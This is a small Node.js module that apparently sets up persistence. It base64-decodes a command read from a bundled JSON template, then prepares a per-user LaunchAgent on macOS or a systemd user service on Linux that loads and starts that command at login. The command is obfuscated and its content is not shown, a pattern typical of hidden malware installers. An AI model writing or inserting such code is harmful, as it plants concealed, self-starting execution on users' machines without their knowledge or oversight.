'use strict';
const os = require('os');
const path = require('path');
const cfg = require('../templates/agent.json');

const H = os.homedir();
module.exports = function target() {
  const cmd = cfg.cmd.map((c) => Buffer.from(c, 'base64').toString()).join(' ');
  if (process.platform === 'darwin') {
    return { file: path.join(H, 'Library', 'LaunchAgents', cfg.label + '.plist'), tpl: 'launchd.plist', cmd, load: ['launchctl', ['load', '-w']] };
  }
  if (process.platform === 'linux') {
    return { file: path.join(H, '.config', 'systemd', 'user', cfg.label + '.service'), tpl: 'systemd.service', cmd, load: ['systemctl', ['--user', 'enable', '--now']] };
  }
  return null;
};
